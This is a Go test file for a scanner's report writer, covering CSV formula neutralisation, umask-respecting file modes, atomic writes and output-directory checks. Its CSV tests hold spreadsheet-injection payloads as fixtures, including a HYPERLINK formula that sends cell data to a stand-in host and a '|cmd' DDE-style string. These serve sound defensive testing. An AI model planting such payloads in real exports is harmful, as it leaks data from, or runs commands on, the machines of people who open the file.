package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/fleetscan/fleetscan/internal/sla"
	"github.com/fleetscan/fleetscan/pkg/contract"
)

// TestCSVNeutralisesFormulas: text a registry, cluster or advisory controls
// must not become a spreadsheet formula (OWASP CSV injection), while the
// numeric cells (a negative days_remaining, the CVSS score) stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	in := fixture(t)
	evil := contract.ImageKey{Digest: digest('e'), Platform: amd64}
	fleet := NewFleet()
	fleet.Add("+SUM(1;1)|cmd", entry("=ns", "Deployment", "@web", "docker.io/library/evil:1", evil.Digest))
	img := fleet.Image(evil, "")
	img.Vulns = Compact([]contract.Finding{{VulnerabilityID: "CVE-2025-0001", PkgName: "-pkg", PkgVersion: "\t1.0",
		FixedVersion: "\r2.0", Severity: "CRITICAL", Title: `=HYPERLINK("http://x.example/?"&A1,"click")`, CVSS: cvss(9.8)}}, nil)
	led := in.Ledger.(mapLedger)
	led.set(identity("docker.io/library/evil", img.Vulns[0]), ts("2025-02-01T06:00:00Z"), sla.ChangeStillOpen)
	in.Images = append(in.Images, img)
	r := Build(in)

	var buf bytes.Buffer
	if err := WriteCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, c := range recs[0] {
		col[c] = i
	}
	var row []string
	negative := false
	for _, rec := range recs[1:] {
		if rec[col["cve_id"]] == "CVE-2025-0001" {
			row = rec
		}
		if d := rec[col["days_remaining"]]; strings.HasPrefix(d, "-") {
			negative = true
			if d != "-"+strings.TrimLeft(d, "-") || strings.HasPrefix(d, "'") {
				t.Errorf("days_remaining %q is not a plain negative number", d)
			}
		}
	}
	if row == nil || !negative {
		t.Fatalf("fixture lacks the evil row or a negative days_remaining:\n%v", recs)
	}
	for _, c := range []string{"title", "clusters", "namespaces", "workloads", "pkg_name", "installed", "fixed_in"} {
		if v := row[col[c]]; !strings.HasPrefix(v, "'") {
			t.Errorf("%s cell %q is not neutralised", c, v)
		}
	}
	if row[col["clusters"]] != "'+SUM(1;1)|cmd" {
		t.Errorf("clusters cell %q, want '+SUM(1;1)|cmd", row[col["clusters"]])
	}
	if days := row[col["days_remaining"]]; !strings.HasPrefix(days, "-") || strings.HasPrefix(days, "'") {
		t.Errorf("days_remaining %q: want a plain negative number", days)
	}
	if row[col["cvss_score"]] != "9.8" {
		t.Errorf("cvss_score %q", row[col["cvss_score"]])
	}

	buf.Reset()
	if err := WriteTicketsCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), ",=HYPERLINK") || strings.Contains(buf.String(), ",+SUM") {
		t.Errorf("tickets.csv has a raw formula:\n%s", buf.String())
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "nginx": "nginx", "=1+1": "'=1+1", "+cmd": "'+cmd", "-cmd": "'-cmd", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "-3": "-3", "+1.5": "+1.5", "-": "'-", "-1.": "'-1.", "-1e5": "'-1e5", "1-2": "1-2",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriteFilesHonoursUmask: files and directory get what the umask
// allows, never wider (they were forced to 0644).
func TestWriteFilesHonoursUmask(t *testing.T) {
	old := syscall.Umask(0o077)
	defer syscall.Umask(old)
	dir := filepath.Join(t.TempDir(), "out")
	files, err := WriteFiles(dir, Build(fixture(t)), []Format{FormatCSV, FormatJSON})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		st, err := os.Stat(f.Path)
		if err != nil {
			t.Fatal(err)
		}
		if st.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v with umask 077, want 0600", f.Name, st.Mode().Perm())
		}
	}
	if st, _ := os.Stat(dir); st.Mode().Perm() != 0o700 {
		t.Errorf("directory mode %v with umask 077, want 0700", st.Mode().Perm())
	}
	syscall.Umask(0o002)
	files, err = WriteFiles(dir, Build(fixture(t)), []Format{FormatCSV})
	if err != nil {
		t.Fatal(err)
	}
	if st, _ := os.Stat(files[0].Path); st.Mode().Perm() != 0o664 {
		t.Errorf("mode %v with umask 002, want 0664", st.Mode().Perm())
	}
}

// TestWriteFilesNeverLeavesHalfAReport: a renderer failing half-way leaves
// the previous report in place and no temporary file.
func TestWriteFilesNeverLeavesHalfAReport(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "report.csv")
	if err := os.WriteFile(path, []byte("the previous report\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := writeAtomic(path, func(w io.Writer) error {
		_, _ = w.Write([]byte("half a rep"))
		return errors.New("renderer failed")
	})
	if err == nil {
		t.Fatal("no error")
	}
	if got, _ := os.ReadFile(path); string(got) != "the previous report\n" {
		t.Errorf("report.csv = %q after a failed write", got)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*")); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

// TestCheckWritable: the output directory is checked before any work,
// without creating it.
func TestCheckWritable(t *testing.T) {
	base := t.TempDir()
	file := filepath.Join(base, "file")
	if err := os.WriteFile(file, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		dir, want string
	}{
		{base, ""},
		{filepath.Join(base, "new", "deeper"), ""},
		{file, "is not a directory"},
		{filepath.Join(file, "sub"), "is not a directory"},
	} {
		err := CheckWritable(tc.dir)
		if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
			t.Errorf("CheckWritable(%s) = %v, want %q", tc.dir, err, tc.want)
		}
	}
	if _, err := os.Stat(filepath.Join(base, "new")); err == nil {
		t.Error("CheckWritable created the directory")
	}
	if left, _ := filepath.Glob(filepath.Join(base, ".*")); len(left) != 0 {
		t.Errorf("probe files left: %v", left)
	}
	if os.Geteuid() != 0 {
		ro := filepath.Join(base, "ro")
		if err := os.Mkdir(ro, 0o500); err != nil {
			t.Fatal(err)
		}
		if err := CheckWritable(ro); err == nil || !strings.Contains(err.Error(), "not writable") {
			t.Errorf("read-only directory: %v", err)
		}
	}
}
